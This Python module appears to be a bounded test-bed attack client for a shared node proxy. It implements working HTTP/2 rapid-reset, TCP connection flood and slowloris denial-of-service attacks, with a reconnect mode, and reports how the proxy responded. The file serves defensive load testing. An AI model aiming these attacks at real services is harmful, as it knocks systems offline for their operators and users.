"""A hostile pod's client: the abuse one enrolled pod can aim at the shared node proxy,
bounded, reporting what the proxy did about it.

    python -m nodeproxy.testbed.attack KIND --host H --port P [--duration S]
        [--connections N] [--rate R] [--path P] [--reconnect] [--json]

Kinds:

- ``rapid-reset``: HTTP/2 with prior knowledge (the ``h2`` library) on each of N
  connections; HEADERS (a GET, END_STREAM) then RST_STREAM(CANCEL) on the same stream,
  pair after pair, as fast as it can (or ``--rate`` pairs/s per connection) until
  ``--duration`` or ``--pairs`` per connection.  Reports the pairs sent, the GOAWAYs
  received (error code, last stream id), connections closed or reset by the peer.
- ``flood``: open up to N TCP connections as fast as allowed (``--parallel`` connects in
  flight, or ``--rate`` new connections/s) and hold them idle, sending nothing, until
  ``--duration``.  Reports opened, refused/reset/timed out (by reason), closed or reset
  by the peer (and after how long), still open at the end, the most open at once.
- ``slowloris``: N connections each send a never-finished HTTP/1.1 request head, one
  byte every ``--interval`` seconds, until ``--duration``.  Reports how many the peer
  closed (and after how long: p50/max), how many got a response and its status (a
  ``408``), how many are still open at the end.

With ``--reconnect`` each of the N connection slots opens a new connection when the
peer ends (or refuses) one, as a real attacker would: a GOAWAY or a header timeout then
costs the attacker nothing but a reconnect.

Every kind prints one JSON object (one line with ``--json``).  Bounded: at most
MAX_CONNECTIONS connections and MAX_DURATION_S seconds, every connect has a timeout,
and the whole run is cancelled a little after ``--duration`` whatever the peer does.
It talks only to the one ``--host``/``--port`` given (inside the test's namespaces).
It raises its own open-file limit to fit N connections.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.exceptions

KINDS = ("rapid-reset", "flood", "slowloris")
MAX_CONNECTIONS = 30000
MAX_DURATION_S = 600.0
MAX_PAIRS = 10_000_000  # per connection
DEFAULT_PARALLEL = 64  # connects in flight: below the usual listen backlog
FD_MARGIN = 256
BATCH = 50  # rapid-reset pairs per write
LINGER_S = 1.0  # after the last pair: how long to wait for a GOAWAY or a close
GRACE_S = 10.0  # the whole run is cancelled this long after --duration
MAX_OPENS_PER_WORKER = 100  # --reconnect: connections one worker opens at most
RECONNECT_PAUSE_S = 0.05  # --reconnect: between a connection's end and the next


# ---------------------------------------------------------------------------
# Pure parts


def summary(values: list[float]) -> dict[str, float | None]:
    """p50 and max of a list of seconds (None when empty), rounded to milliseconds."""
    if not values:
        return {"p50": None, "max": None}
    ordered = sorted(values)
    return {"p50": round(ordered[(len(ordered) - 1) // 2], 3), "max": round(ordered[-1], 3)}


def start_offsets(count: int, rate: float) -> list[float]:
    """When each of ``count`` connections may start, in seconds after the first:
    ``rate`` per second evenly, or all at once (rate 0)."""
    if rate <= 0:
        return [0.0] * count
    return [i / rate for i in range(count)]


def request_headers(authority: str, path: str) -> list[tuple[bytes, bytes]]:
    """The HTTP/2 request of every rapid-reset stream: a bodiless GET."""
    return [(b":method", b"GET"), (b":scheme", b"http"),
            (b":authority", authority.encode()), (b":path", path.encode()),
            (b"user-agent", b"nodeproxy-attack")]


def slowloris_bytes(authority: str, path: str) -> Iterator[bytes]:
    """The bytes a slowloris connection sends, one at a time, without end: a request line,
    a Host header, then one made-up header line after another.  The blank line that
    would end the head never comes."""
    head = f"GET {path} HTTP/1.1\r\nHost: {authority}\r\n".encode()
    yield from (head[i:i + 1] for i in range(len(head)))
    n = 0
    while True:
        line = f"X-Slow-{n}: {'a' * 8}\r\n".encode()
        yield from (line[i:i + 1] for i in range(len(line)))
        n += 1


def response_status(data: bytes) -> int | None:
    """The status code of an HTTP/1.x response's first line, or None."""
    line = data.split(b"\r\n", 1)[0].split(b" ")
    if len(line) >= 2 and line[0].startswith(b"HTTP/1.") and line[1].isdigit():
        return int(line[1])
    return None


FRAME_HEADER = 9
GOAWAY_TYPE = 0x7


def goaways(buffer: bytearray) -> list[tuple[int, int]]:
    """The (error code, last stream id) of every GOAWAY frame complete in ``buffer``, the
    bytes a server sent from the start of its connection; the complete frames are
    removed from ``buffer``, a partial one is left for the next read.

    Read apart from the ``h2`` state machine, which raises on a frame that follows a
    GOAWAY (a response already in flight) and loses the GOAWAY with it."""
    found = []
    while len(buffer) >= FRAME_HEADER:
        length = int.from_bytes(buffer[0:3], "big")
        if len(buffer) < FRAME_HEADER + length:
            break
        if buffer[3] == GOAWAY_TYPE and length >= 8:
            payload = buffer[FRAME_HEADER:FRAME_HEADER + 8]
            found.append((int.from_bytes(payload[4:8], "big"),
                          int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF))
        del buffer[:FRAME_HEADER + length]
    return found


def error_name(code: int) -> str:
    """An HTTP/2 error code's name (``ENHANCE_YOUR_CALM``), or its number."""
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def describe(error: BaseException) -> str:
    if isinstance(error, TimeoutError):
        return "TimeoutError"
    return type(error).__name__


def nofile_needed(connections: int) -> int:
    return connections + FD_MARGIN


# ---------------------------------------------------------------------------
# Shared


def raise_nofile(need: int) -> tuple[int, int]:
    """Lift this process's open-file limit to ``need`` if it is lower (the hard limit too,
    where permitted).  Returns the limits in force."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE,
                               (need, max(hard, need) if hard != resource.RLIM_INFINITY
                                else hard))
        except (ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)


@dataclass
class Plan:
    """One run's parameters, as parsed from the command line."""

    kind: str
    host: str
    port: int
    duration: float
    connections: int
    rate: float
    path: str
    authority: str
    pairs: int
    interval: float
    parallel: int
    connect_timeout: float
    reconnect: bool = False


@dataclass
class Tally:
    """What happened to a set of connections (the flood's and slowloris')."""

    opened: int = 0
    connect_errors: Counter[str] = field(default_factory=Counter)
    closed_by_peer_after: list[float] = field(default_factory=list)
    reset_by_peer_after: list[float] = field(default_factory=list)
    statuses: Counter[int] = field(default_factory=Counter)
    open_now: int = 0
    most_open: int = 0
    bytes_sent: int = 0

    def connected(self) -> None:
        self.opened += 1
        self.open_now += 1
        self.most_open = max(self.most_open, self.open_now)

    def ended(self, after: float, reset: bool) -> None:
        self.open_now -= 1
        (self.reset_by_peer_after if reset else self.closed_by_peer_after).append(after)

    def report(self) -> dict[str, Any]:
        return {
            "opened": self.opened,
            "connect_failed": sum(self.connect_errors.values()),
            "connect_errors": dict(self.connect_errors),
            "closed_by_peer": len(self.closed_by_peer_after),
            "closed_after_s": summary(self.closed_by_peer_after),
            "reset_by_peer": len(self.reset_by_peer_after),
            "reset_after_s": summary(self.reset_by_peer_after),
            "responses": sum(self.statuses.values()),
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "open_at_end": self.open_now,
            "most_open": self.most_open,
        }


async def _connect(plan: Plan, tally: Tally, limit: asyncio.Semaphore,
                   ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    async with limit:
        try:
            pair = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port),
                                          plan.connect_timeout)
        except (OSError, TimeoutError) as e:
            tally.connect_errors[describe(e)] += 1
            return None
    tally.connected()
    return pair


async def _paced(plan: Plan, one: Callable[[int, float], Awaitable[None]],
                 rate: float) -> None:
    """Run ``one(index, deadline)`` for each connection, ``rate`` starts per second (0: all
    at once), until the plan's duration is over.  With ``--reconnect`` a worker whose
    connection ended before the deadline (closed or refused by the peer) opens another,
    RECONNECT_PAUSE_S later, at most MAX_OPENS_PER_WORKER times."""
    start = time.monotonic()
    deadline = start + plan.duration

    async def worker(index: int) -> None:
        for _ in range(MAX_OPENS_PER_WORKER if plan.reconnect else 1):
            await one(index, deadline)
            if time.monotonic() + RECONNECT_PAUSE_S >= deadline:
                return
            await asyncio.sleep(RECONNECT_PAUSE_S)

    tasks = []
    for i, offset in enumerate(start_offsets(plan.connections, rate)):
        wait = start + offset - time.monotonic()
        if wait > 0:
            await asyncio.sleep(wait)
        if time.monotonic() >= deadline:
            break
        tasks.append(asyncio.ensure_future(worker(i)))
    await asyncio.gather(*tasks)


# ---------------------------------------------------------------------------
# flood


async def flood(plan: Plan) -> dict[str, Any]:
    tally = Tally()
    limit = asyncio.Semaphore(plan.parallel)

    async def one(_: int, deadline: float) -> None:
        pair = await _connect(plan, tally, limit)
        if pair is None:
            return
        reader, writer = pair
        opened = time.monotonic()
        answered = False
        try:
            while True:
                left = deadline - time.monotonic()
                if left <= 0:
                    return  # still open at the deadline: stays counted in open_now
                try:
                    data = await asyncio.wait_for(reader.read(4096), left)
                except TimeoutError:
                    return
                if not data:
                    tally.ended(time.monotonic() - opened, reset=False)
                    return
                if not answered:  # the peer said something (an error response?)
                    answered = True
                    status = response_status(data)
                    tally.statuses[status if status is not None else 0] += 1
        except OSError:
            tally.ended(time.monotonic() - opened, reset=True)
        finally:
            writer.close()

    await _paced(plan, one, plan.rate)
    return tally.report()


# ---------------------------------------------------------------------------
# slowloris


async def slowloris(plan: Plan) -> dict[str, Any]:
    tally = Tally()
    limit = asyncio.Semaphore(plan.parallel)

    async def one(_: int, deadline: float) -> None:
        pair = await _connect(plan, tally, limit)
        if pair is None:
            return
        reader, writer = pair
        opened = time.monotonic()
        received = bytearray()
        source = slowloris_bytes(plan.authority, plan.path)
        try:
            while True:
                if not received:  # once answered, send no more: wait for the close
                    writer.write(next(source))
                    tally.bytes_sent += 1
                left = deadline - time.monotonic()
                if left <= 0:
                    return
                try:
                    data = await asyncio.wait_for(reader.read(4096), min(plan.interval, left))
                except TimeoutError:
                    continue
                if not data:
                    tally.ended(time.monotonic() - opened, reset=False)
                    return
                if not received:
                    status = response_status(bytes(data))
                    tally.statuses[status if status is not None else 0] += 1
                received += data[:4096 - len(received)]
        except OSError:
            tally.ended(time.monotonic() - opened, reset=True)
        finally:
            writer.close()

    await _paced(plan, one, plan.rate)
    return {**tally.report(), "bytes_sent": tally.bytes_sent}


# ---------------------------------------------------------------------------
# rapid-reset


@dataclass
class H2Outcome:
    pairs: int = 0
    goaway_code: str | None = None
    goaway_last_stream: int | None = None
    closed_by_peer: bool = False
    reset_by_peer: bool = False
    error: str | None = None


async def _rapid_reset_one(plan: Plan, deadline: float) -> H2Outcome:
    out = H2Outcome()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port),
                                                plan.connect_timeout)
    except (OSError, TimeoutError) as e:
        out.error = f"connect: {describe(e)}"
        return out
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding=None))
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    headers = request_headers(plan.authority, plan.path)
    ended = asyncio.Event()

    async def receive() -> None:
        frames = bytearray()
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    out.closed_by_peer = True
                    return
                frames += data
                for code, last_stream in goaways(frames):
                    out.goaway_code = error_name(code)
                    out.goaway_last_stream = last_stream
                if out.goaway_code is not None:
                    continue  # read on until the peer closes; h2 would refuse the rest
                try:
                    conn.receive_data(data)  # settings, pings, window updates: answered
                except h2.exceptions.ProtocolError as e:
                    out.error = f"peer: {describe(e)}: {e}"
                    return
                pending = conn.data_to_send()
                if pending:
                    writer.write(pending)
        except OSError:
            out.reset_by_peer = True
        finally:
            ended.set()

    receiver = asyncio.ensure_future(receive())
    started = time.monotonic()
    try:
        while (out.pairs < plan.pairs and time.monotonic() < deadline and not ended.is_set()
               and out.goaway_code is None):
            for _ in range(min(BATCH, plan.pairs - out.pairs)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                out.pairs += 1
            writer.write(conn.data_to_send())
            await writer.drain()
            if plan.rate > 0:
                ahead = started + out.pairs / plan.rate - time.monotonic()
                await asyncio.sleep(max(0.0, min(ahead, deadline - time.monotonic())))
            else:
                await asyncio.sleep(0)  # let the receiver read what came back
        if not ended.is_set():  # a GOAWAY or a close may be on its way
            linger = min(LINGER_S, max(0.0, deadline + LINGER_S - time.monotonic()))
            try:
                await asyncio.wait_for(ended.wait(), linger)
            except TimeoutError:
                pass
    except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError) as e:
        if out.goaway_code is None:
            out.error = f"h2: {describe(e)}: {e}"
    except OSError:
        out.reset_by_peer = True
    finally:
        receiver.cancel()
        writer.close()
    return out


async def rapid_reset(plan: Plan) -> dict[str, Any]:
    results: list[H2Outcome] = []

    async def one(_: int, deadline: float) -> None:
        results.append(await _rapid_reset_one(plan, deadline))

    await _paced(plan, one, 0.0)  # --rate paces the pairs here, not the connects
    goaways = Counter(r.goaway_code for r in results if r.goaway_code is not None)
    last_streams = [r.goaway_last_stream for r in results if r.goaway_last_stream is not None]
    errors = Counter(r.error for r in results if r.error)
    return {
        "connections": len(results),
        "pairs_sent": sum(r.pairs for r in results),
        "goaway": sum(goaways.values()),
        "goaway_codes": dict(goaways),
        "goaway_last_stream": {"min": min(last_streams), "max": max(last_streams)}
        if last_streams else None,
        "closed_by_peer": sum(r.closed_by_peer for r in results),
        "reset_by_peer": sum(r.reset_by_peer for r in results),
        "errors": dict(errors.most_common(5)),
    }


# ---------------------------------------------------------------------------
# Command line


RUNNERS: dict[str, Callable[[Plan], Awaitable[dict[str, Any]]]] = {
    "rapid-reset": rapid_reset, "flood": flood, "slowloris": slowloris}


def parse(argv: list[str] | None = None) -> tuple[Plan, bool]:
    """The plan, and whether to print one line of JSON."""
    parser = argparse.ArgumentParser(prog="python -m nodeproxy.testbed.attack",
                                     description=__doc__.split("\n\n")[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--duration", type=float, default=10.0, help="seconds (bound)")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0.0,
                        help="rapid-reset: pairs/s per connection; flood, slowloris: new "
                             "connections/s (0: as fast as allowed)")
    parser.add_argument("--path", default="/")
    parser.add_argument("--authority", help="Host / :authority (default HOST:PORT)")
    parser.add_argument("--pairs", type=int, default=MAX_PAIRS,
                        help="rapid-reset: pairs per connection at most")
    parser.add_argument("--interval", type=float, default=1.0,
                        help="slowloris: seconds between bytes")
    parser.add_argument("--parallel", type=int, default=DEFAULT_PARALLEL,
                        help="connects in flight at once")
    parser.add_argument("--connect-timeout", type=float, default=5.0)
    parser.add_argument("--reconnect", action="store_true",
                        help="open a new connection when the peer ends one (or refuses "
                             f"it), at most {MAX_OPENS_PER_WORKER} per connection slot")
    parser.add_argument("--json", action="store_true", help="one line of JSON")
    args = parser.parse_args(argv)
    if not 0 < args.duration <= MAX_DURATION_S:
        parser.error(f"--duration must be in (0, {MAX_DURATION_S:g}]")
    if not 1 <= args.connections <= MAX_CONNECTIONS:
        parser.error(f"--connections must be between 1 and {MAX_CONNECTIONS}")
    if not 1 <= args.pairs <= MAX_PAIRS:
        parser.error(f"--pairs must be between 1 and {MAX_PAIRS}")
    if args.rate < 0 or args.interval < 0.01 or args.parallel < 1 \
            or args.connect_timeout <= 0:
        parser.error("--rate must be >= 0, --interval >= 0.01, --parallel >= 1, "
                     "--connect-timeout > 0")
    if not args.path.startswith("/"):
        parser.error("--path must start with /")
    authority = args.authority or (f"[{args.host}]:{args.port}" if ":" in args.host
                                   else f"{args.host}:{args.port}")
    return Plan(kind=args.kind, host=args.host, port=args.port, duration=args.duration,
                connections=args.connections, rate=args.rate, path=args.path,
                authority=authority, pairs=args.pairs, interval=args.interval,
                parallel=args.parallel, connect_timeout=args.connect_timeout,
                reconnect=args.reconnect), args.json


async def run(plan: Plan) -> dict[str, Any]:
    """The kind's report, plus what every report has; cancelled GRACE_S past the duration."""
    started = time.monotonic()
    try:
        report = await asyncio.wait_for(RUNNERS[plan.kind](plan), plan.duration + GRACE_S)
        timed_out = False
    except TimeoutError:
        report, timed_out = {}, True
    return {"kind": plan.kind, "target": f"{plan.host}:{plan.port}",
            "duration_s": plan.duration, "reconnect": plan.reconnect,
            "seconds": round(time.monotonic() - started, 3),
            "cancelled_at_bound": timed_out, **report}


def main(argv: list[str] | None = None) -> int:
    plan, as_json = parse(argv)
    soft, _ = raise_nofile(nofile_needed(plan.connections))
    runner: Callable[[Any], dict[str, Any]] = asyncio.run
    try:
        import uvloop
        runner = uvloop.run
    except ImportError:
        pass
    report = runner(run(plan))
    report["nofile"] = soft
    print(json.dumps(report) if as_json else json.dumps(report, indent=2), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
